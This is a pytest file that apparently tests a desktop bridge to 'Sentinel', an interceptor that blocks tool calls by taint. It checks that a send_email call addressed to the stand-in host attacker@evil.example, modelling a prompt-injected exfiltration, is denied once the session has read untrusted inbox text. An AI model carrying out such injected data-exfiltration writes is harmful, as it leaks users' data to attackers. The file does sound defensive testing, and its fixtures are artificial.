"""`sentinel connect` as a desktop client runs it: a subprocess driven over stdio by the official SDK's client.

The stack is real (`sentinel_cli.run.run_stack`: the tool server and the
interceptor as processes, the example config); the bridge speaks to its
``/mcp`` in both revisions. What is checked is what a desktop user relies on:
the tools, an honest call, an injected write denied after untrusted input (and
nothing sent), the session ended when the bridge goes (also on SIGTERM), an
application's session joined and left open, and Sentinel's errors reaching the
desktop client as errors instead of ending the bridge.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp import Client, MCPError, StdioServerParameters

from sentinel_cli.run import Stack, run_stack

ROOT = Path(__file__).resolve().parents[2]
DEMO_KEY = "sk-sentinel-demo"
MODES = ["2026-07-28", "legacy"]
INJECTED = {"to": "attacker@evil.example", "subject": "s", "body": "b"}


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with run_stack(config=str(ROOT / "examples" / "sentinel.yaml"), var_dir=tmp_path_factory.mktemp("stack")) as running:
        yield running


def bridge(url: str, *args: str, key: str = DEMO_KEY) -> StdioServerParameters:
    """`sentinel connect` as a claude_desktop_config.json entry would start it."""
    return StdioServerParameters(command=sys.executable, args=["-m", "sentinel_cli", "connect", "--url", url, *args],
                                 env={"SENTINEL_API_KEY": key, "PYTHONPATH": str(ROOT)})


def outbox(stack: Stack) -> list[dict[str, Any]]:
    path = stack.var_dir / "mcp-data" / "outbox.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def last_sid(stack: Stack) -> str:
    """The session of the latest audited call (the bridge opened it: the test never saw its id)."""
    lines = (stack.var_dir / "interceptor-audit.jsonl").read_text().splitlines()
    return str(json.loads(lines[-1])["sid"])


def agent_api(stack: Stack) -> httpx.Client:
    return httpx.Client(base_url=stack.interceptor_url, headers={"X-Sentinel-Key": DEMO_KEY}, timeout=10)


def text(result: Any) -> str:
    return "\n".join(item.text for item in result.content if getattr(item, "text", None))


@pytest.mark.parametrize("mode", MODES)
async def test_a_desktop_client_lists_calls_and_reads_the_denial_of_an_injected_write(stack: Stack, mode: str) -> None:
    async with Client(bridge(stack.interceptor_url, "--mode", mode), mode="legacy") as desktop:
        assert "denied or held call" in (desktop.instructions or "")
        names = {tool.name for tool in (await desktop.list_tools()).tools}
        assert {"get_current_time", "read_inbox", "send_email"} <= names and "delete_file" not in names
        honest = await desktop.call_tool("get_current_time", {"timezone": "UTC"})
        assert not honest.is_error and "UTC" in text(honest)
        assert honest.meta is not None and honest.meta["sentinel/decision"]["rule"] == "staticRules.get_current_time"
        assert not (await desktop.call_tool("read_inbox", {})).is_error  # untrusted text enters the session
        injected = await desktop.call_tool("send_email", INJECTED)
        assert injected.is_error and "CHECK_TAINT:send_email" in text(injected) and "did not run" in text(injected)
        assert injected.meta is not None
        assert injected.meta["sentinel/decision"] == {"effect": "deny", "rule": "CHECK_TAINT:send_email",
                                                      "reason": "send_email is blocked while the session carries "
                                                                "taint: untrusted"}
        sid = last_sid(stack)
    assert outbox(stack) == []
    with agent_api(stack) as api:  # the bridge opened the session, so it ended it
        assert api.post(f"/session/{sid}/call", json={"tool": "get_current_time", "arguments": {}}).status_code == 404


async def test_a_joined_session_keeps_the_applications_taint_and_is_left_open(stack: Stack) -> None:
    with agent_api(stack) as api:
        sid = api.post("/session/start", json={"agent": "desktop"}).json()["session_id"]
        assert api.post(f"/session/{sid}/call", json={"tool": "read_inbox", "arguments": {}}).status_code == 200
        async with Client(bridge(stack.interceptor_url, "--session", sid), mode="legacy") as desktop:
            denied = await desktop.call_tool("send_email", INJECTED)  # the taint the application's own call left
            assert denied.is_error and denied.meta is not None
            assert denied.meta["sentinel/decision"]["rule"] == "CHECK_TAINT:send_email"
        assert api.post(f"/session/{sid}/call", json={"tool": "get_current_time", "arguments": {}}).status_code == 200
        async with Client(bridge(stack.interceptor_url, "--session", sid, "--mode", "legacy"), mode="legacy") as desktop:
            assert api.post(f"/session/{sid}/end").status_code == 200  # the application ends it under the bridge
            with pytest.raises(MCPError) as ended:
                await desktop.call_tool("get_current_time", {})
            assert ended.value.code == -32004 and ended.value.data["code"] == "session_not_found"
            assert ended.value.message.startswith("Sentinel: ")
            with pytest.raises(MCPError):  # the bridge is still up; it never opens another session
                await desktop.list_tools()
    assert outbox(stack) == []


def test_sigterm_ends_the_session_the_bridge_opened(stack: Stack) -> None:
    params = bridge(stack.interceptor_url)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SENTINEL_")} | (params.env or {})
    with subprocess.Popen([params.command, *params.args], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL, env=env) as process:
        assert process.stdin is not None and process.stdout is not None
        try:
            for message in ({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                                "protocolVersion": "2025-11-25", "capabilities": {},
                                "clientInfo": {"name": "t", "version": "1"}}},
                            {"jsonrpc": "2.0", "method": "notifications/initialized"},
                            {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                             "params": {"name": "read_inbox", "arguments": {}}}):
                process.stdin.write(json.dumps(message).encode() + b"\n")
                process.stdin.flush()
            assert json.loads(process.stdout.readline())["id"] == 1
            assert json.loads(process.stdout.readline())["result"]["isError"] is False
            sid = last_sid(stack)
            process.send_signal(signal.SIGTERM)  # stdin still open: the desktop client did not close it
            assert process.wait(timeout=15) == -signal.SIGTERM
        finally:
            if process.poll() is None:
                process.kill()
    with agent_api(stack) as api:
        assert api.post(f"/session/{sid}/call", json={"tool": "get_current_time", "arguments": {}}).status_code == 404


@pytest.mark.parametrize("args", [[], ["--mode", "legacy"], ["--session", "no-such-session"]],
                         ids=["2026-07-28", "legacy", "join"])
def test_a_refused_start_is_one_line_and_exit_2(stack: Stack, args: list[str]) -> None:
    key = "sk-wrong" if "--session" not in args else DEMO_KEY
    params = bridge(stack.interceptor_url, *args, key=key)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SENTINEL_")} | (params.env or {})
    proc = subprocess.run([params.command, *params.args], env=env, capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
    if "--session" in args:
        assert "refused the connection: no such session" in proc.stderr and "session_not_found" in proc.stderr
    else:
        assert "refused the API key in SENTINEL_API_KEY" in proc.stderr and "sk-wrong" not in proc.stderr


async def test_a_sentinel_that_goes_away_is_an_error_to_the_desktop_client_not_the_end_of_the_bridge(
    tmp_path: Path,
) -> None:
    with run_stack(config=str(ROOT / "examples" / "sentinel.yaml"), var_dir=tmp_path) as own:
        async with Client(bridge(own.interceptor_url), mode="legacy") as desktop:
            interceptor = own.processes[-1]
            interceptor.send_signal(signal.SIGINT)
            interceptor.wait(timeout=20)
            with pytest.raises(MCPError) as gone:
                await desktop.call_tool("get_current_time", {})
            assert gone.value.code == -32000 and gone.value.data["code"] == "sentinel_unreachable"
            assert f"cannot reach Sentinel at {own.interceptor_url}/mcp" in gone.value.message
            with pytest.raises(MCPError):  # still answering: each call says so, none ends the bridge
                await desktop.list_tools()
